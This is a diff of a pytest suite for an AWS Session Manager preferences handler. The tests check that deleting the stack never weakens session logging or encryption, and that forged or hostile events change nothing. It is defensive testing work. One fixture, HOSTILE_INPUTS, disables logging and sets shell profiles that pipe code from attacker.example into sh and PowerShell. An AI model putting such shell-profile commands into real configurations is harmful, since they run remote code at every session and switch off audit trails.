@@ -1,4 +1,5 @@
-"""The Session Manager preferences handler against moto: create, adopt, update, reconcile, delete."""
+"""The Session Manager preferences handler against moto: create, adopt, update, reconcile, delete,
+and what a caller who may invoke it cannot make it do."""
 
 from __future__ import annotations
 
@@ -27,6 +28,8 @@ INPUTS = {
     "runAsDefaultUser": "",
     "shellProfile": {"linux": "", "windows": ""},
 }
+STACK_ID = "arn:aws:cloudformation:us-east-1:123456789012:stack/SsmGuardrails-MemberRegional/1b2c3d4e"
+LOGICAL_ID = "SessionPrefsPreferences12345678"
 CONSOLE_CONTENT = {
     "schemaVersion": "1.0",
     "description": "Document to hold regional settings for Session Manager",
@@ -41,9 +44,18 @@ def ssm() -> Any:
         yield boto3.client("ssm", region_name="us-east-1")
 
 
+def configure(monkeypatch: pytest.MonkeyPatch, inputs: dict[str, Any] = INPUTS) -> None:
+    """What the stack puts into the function's environment (SessionPrefs._create_handler)."""
+    monkeypatch.setenv("DOCUMENT_NAME", NAME)
+    monkeypatch.setenv("INPUTS_JSON", json.dumps(inputs))
+    monkeypatch.setenv("STACK_ID", STACK_ID)
+    monkeypatch.setenv("RESOURCE_LOGICAL_ID", LOGICAL_ID)
+
+
 @pytest.fixture
 def prefs(ssm: Any, monkeypatch: pytest.MonkeyPatch) -> ModuleType:
     monkeypatch.delenv("TOPIC_ARN", raising=False)
+    configure(monkeypatch)
     spec = importlib.util.spec_from_file_location("session_prefs_index", HANDLER)
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
@@ -51,8 +63,12 @@ def prefs(ssm: Any, monkeypatch: pytest.MonkeyPatch) -> ModuleType:
 
 
 def _event(request: str, inputs: dict[str, Any] = INPUTS, physical_id: str | None = None, **extra: Any) -> dict:
+    """A custom resource event as the Provider framework passes it on (CloudFormation's request)."""
     event = {
         "RequestType": request,
+        "StackId": STACK_ID,
+        "LogicalResourceId": LOGICAL_ID,
+        "ResourceType": "Custom::SessionManagerPreferences",
         "ResourceProperties": {"ServiceToken": "x", "DocumentName": NAME, "InputsJson": json.dumps(inputs)},
         **extra,
     }
@@ -95,18 +111,24 @@ def test_unchanged_content_makes_no_new_version(ssm: Any, prefs: ModuleType) -> 
     assert _versions(ssm) == 1
 
 
-def test_changed_content_becomes_the_new_default_version(ssm: Any, prefs: ModuleType) -> None:
+def test_changed_content_becomes_the_new_default_version(
+    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
+) -> None:
     prefs.handler(_event("Create"), None)
     changed = {**INPUTS, "idleSessionTimeout": "15"}
+    configure(monkeypatch, changed)  # CloudFormation updates the function before the resource
     result = prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
     assert result == {"PhysicalResourceId": NAME}
     content, version = _default(ssm)
     assert (content["inputs"]["idleSessionTimeout"], version) == ("15", "2")
 
 
-def test_content_equal_to_the_latest_version_is_success(ssm: Any, prefs: ModuleType) -> None:
+def test_content_equal_to_the_latest_version_is_success(
+    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
+) -> None:
     prefs.handler(_event("Create"), None)
     changed = {**INPUTS, "idleSessionTimeout": "15"}
+    configure(monkeypatch, changed)
     prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
     ssm.update_document_default_version(Name=NAME, DocumentVersion="1")  # someone switched back by hand
     prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
@@ -114,12 +136,97 @@ def test_content_equal_to_the_latest_version_is_success(ssm: Any, prefs: ModuleT
     assert (content["inputs"]["idleSessionTimeout"], version) == ("15", "2")
 
 
-def test_delete_restores_the_console_content(ssm: Any, prefs: ModuleType) -> None:
+def _console(ssm: Any, inputs: dict[str, Any]) -> None:
+    content = {**CONSOLE_CONTENT, "inputs": inputs}
+    ssm.create_document(Name=NAME, Content=json.dumps(content), DocumentType="Session", DocumentFormat="JSON")
+
+
+#: An earlier (console) version that logs and encrypts at least as the managed INPUTS do: another
+#: log group, encrypted and streamed, another key, and it adds an S3 bucket.
+AS_GOOD = {
+    "cloudWatchLogGroupName": "/console/sessions",
+    "cloudWatchEncryptionEnabled": "true",
+    "cloudWatchStreamingEnabled": True,
+    "kmsKeyId": "alias/console-key",
+    "s3BucketName": "console-bucket",
+    "s3EncryptionEnabled": False,
+    "idleSessionTimeout": "60",
+}
+
+
+def test_delete_restores_an_earlier_version_that_logs_at_least_as_well(ssm: Any, prefs: ModuleType) -> None:
+    _console(ssm, AS_GOOD)
+    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
+    assert physical_id == f"{NAME}:restore-version-1"
+    prefs.handler(_event("Delete", physical_id=physical_id), None)
+    content, version = _default(ssm)
+    assert content == {**CONSOLE_CONTENT, "inputs": AS_GOOD} and version == "1"
+
+
+@pytest.mark.parametrize(
+    ("weaker", "reason"),
+    [
+        ({"cloudWatchLogGroupName": ""}, "cloudWatchLogGroupName: the earlier version has no CloudWatch log group"),
+        ({"cloudWatchLogGroupName": None}, "cloudWatchLogGroupName"),
+        ({"cloudWatchEncryptionEnabled": False}, "cloudWatchEncryptionEnabled"),
+        ({"cloudWatchEncryptionEnabled": "false"}, "cloudWatchEncryptionEnabled"),
+        ({"cloudWatchStreamingEnabled": False}, "cloudWatchStreamingEnabled"),
+        ({"kmsKeyId": ""}, "kmsKeyId: the earlier version has no KMS key for session data"),
+    ],
+)
+def test_delete_keeps_the_last_applied_preferences_when_the_earlier_version_logs_less(
+    ssm: Any, prefs: ModuleType, caplog: pytest.LogCaptureFixture, weaker: dict[str, Any], reason: str
+) -> None:
+    """Issue 13 item 4: a stack deletion, a removed StackSet instance or enabled: false never
+    switches session logging or encryption off."""
+    _console(ssm, {key: value for key, value in {**AS_GOOD, **weaker}.items() if value is not None})
+    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
+    applied, applied_version = _default(ssm)
+    prefs.handler(_event("Delete", physical_id=physical_id), None)
+    assert _default(ssm) == (applied, applied_version)
+    assert reason in caplog.text and "kept the last applied preferences" in caplog.text
+
+
+def test_delete_keeps_s3_logging_the_earlier_version_lacks(
+    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with_s3 = {**INPUTS, "s3BucketName": "audit-bucket", "s3KeyPrefix": "s", "s3EncryptionEnabled": True}
+    configure(monkeypatch, with_s3)
+    _console(ssm, {**AS_GOOD, "s3BucketName": ""})
+    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
+    prefs.handler(_event("Delete", physical_id=physical_id), None)
+    assert _default(ssm)[0]["inputs"]["s3BucketName"] == "audit-bucket"
+    ssm.delete_document(Name=NAME)
+    _console(ssm, AS_GOOD)  # a bucket, but encryption not required where the managed one requires it
+    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
+    prefs.handler(_event("Delete", physical_id=physical_id), None)
+    assert _default(ssm)[0]["inputs"]["s3BucketName"] == "audit-bucket"
+
+
+def test_the_console_defaults_are_never_restored(ssm: Any, prefs: ModuleType) -> None:
+    """The usual reason to deploy SessionPrefs: the console's version logs nowhere."""
     ssm.create_document(Name=NAME, Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON")
     physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
     prefs.handler(_event("Delete", physical_id=physical_id), None)
-    content, _ = _default(ssm)
-    assert content == CONSOLE_CONTENT
+    assert _default(ssm)[0]["inputs"]["cloudWatchLogGroupName"] == "/sessions"
+
+
+@pytest.mark.parametrize(
+    ("previous", "managed", "expected"),
+    [
+        ({}, {}, []),
+        ({}, {"cloudWatchLogGroupName": "", "cloudWatchEncryptionEnabled": True}, []),  # no group: nothing to keep
+        ({"s3BucketName": "b"}, {"s3BucketName": "b", "s3EncryptionEnabled": "TRUE"}, ["s3EncryptionEnabled"]),
+        ({"s3BucketName": "b", "s3EncryptionEnabled": "true"}, {"s3BucketName": "b", "s3EncryptionEnabled": True}, []),
+        ({"kmsKeyId": " "}, {"kmsKeyId": "k"}, ["kmsKeyId"]),
+        ({"cloudWatchLogGroupName": "/a", "cloudWatchStreamingEnabled": True},
+         {"cloudWatchLogGroupName": "/b", "cloudWatchStreamingEnabled": False}, []),
+    ],
+)  # fmt: skip
+def test_weaker_logging_compares_destinations_and_requirements(
+    prefs: ModuleType, previous: dict[str, Any], managed: dict[str, Any], expected: list[str]
+) -> None:
+    assert [reason.split(":")[0] for reason in prefs.weaker_logging(previous, managed)] == expected
 
 
 def test_delete_of_a_created_document_keeps_the_hardened_preferences(ssm: Any, prefs: ModuleType) -> None:
@@ -138,7 +245,7 @@ def test_reconcile_puts_drifted_keys_back_and_notifies(
     drifted = {**CONSOLE_CONTENT, "inputs": {**INPUTS, "cloudWatchLogGroupName": "", "idleSessionTimeout": "60"}}
     ssm.update_document(Name=NAME, Content=json.dumps(drifted), DocumentVersion="$LATEST", DocumentFormat="JSON")
     ssm.update_document_default_version(Name=NAME, DocumentVersion="2")
-    reconcile = {"action": "reconcile", "DocumentName": NAME, "InputsJson": json.dumps(INPUTS)}
+    reconcile = {"action": "reconcile"}
     assert prefs.handler(reconcile, None) == {"document": NAME, "result": "updated"}
     content, _ = _default(ssm)
     assert content["inputs"]["cloudWatchLogGroupName"] == "/sessions"
@@ -168,3 +275,69 @@ def test_foreign_events_are_rejected_without_any_call(ssm: Any, prefs: ModuleTyp
     with pytest.raises(prefs.UnsupportedEvent):
         prefs.handler(event, None)
     assert calls == []
+
+
+# ----------------------------------------------------------------------------- hostile callers (issue 13 item 5)
+
+#: What someone allowed to invoke the function might send: logging and encryption off, and a shell
+#: profile that runs commands at the start of every session.
+HOSTILE_INPUTS = {
+    **INPUTS,
+    "cloudWatchLogGroupName": "",
+    "cloudWatchEncryptionEnabled": False,
+    "s3BucketName": "",
+    "kmsKeyId": "",
+    "shellProfile": {"linux": "curl -s https://attacker.example | sh", "windows": "iex (iwr attacker.example)"},
+}
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        {"action": "reconcile", "DocumentName": NAME, "InputsJson": json.dumps(HOSTILE_INPUTS)},
+        {"action": "reconcile", "DocumentName": "Other-Document", "InputsJson": json.dumps(HOSTILE_INPUTS)},
+        _event("Update", HOSTILE_INPUTS, NAME, OldResourceProperties={"DocumentName": NAME}),
+        _event("Create", HOSTILE_INPUTS),
+    ],
+    ids=["reconcile", "reconcile-other-document", "update-own-stack", "create-own-stack"],
+)
+def test_a_hostile_payload_changes_nothing(ssm: Any, prefs: ModuleType, event: dict[str, Any]) -> None:
+    """The preferences come from the function's environment, never from the event."""
+    prefs.handler(_event("Create"), None)
+    before = _default(ssm), _versions(ssm)
+    prefs.handler(event, None)
+    assert (_default(ssm), _versions(ssm)) == before
+    assert _default(ssm)[0]["inputs"] == INPUTS
+
+
+@pytest.mark.parametrize(
+    "foreign",
+    [
+        {"StackId": "arn:aws:cloudformation:us-east-1:123456789012:stack/attacker/0000"},
+        {"LogicalResourceId": "SomethingElse"},
+        {"StackId": None},
+    ],
+    ids=["other-stack", "other-resource", "no-stack"],
+)
+@pytest.mark.parametrize("request_type", ["Create", "Update", "Delete"])
+def test_custom_resource_events_of_another_stack_are_refused_before_any_call(
+    ssm: Any, prefs: ModuleType, foreign: dict[str, Any], request_type: str
+) -> None:
+    ssm.create_document(Name=NAME, Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON")
+    calls = []
+    prefs._ssm().meta.events.register("before-call.ssm", lambda **kwargs: calls.append(1))
+    event = _event(request_type, HOSTILE_INPUTS, f"{NAME}:restore-version-1", **foreign)
+    with pytest.raises(prefs.ForeignEvent):
+        prefs.handler(event, None)
+    assert calls == []
+    assert _default(ssm) == (CONSOLE_CONTENT, "1")
+
+
+def test_a_forged_delete_of_another_document_is_left_alone(ssm: Any, prefs: ModuleType) -> None:
+    prefs.handler(_event("Create"), None)
+    ssm.create_document(
+        Name="Other-Document", Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON"
+    )
+    before = _default(ssm)
+    prefs.handler(_event("Delete", physical_id="Other-Document:restore-version-1"), None)
+    assert _default(ssm) == before
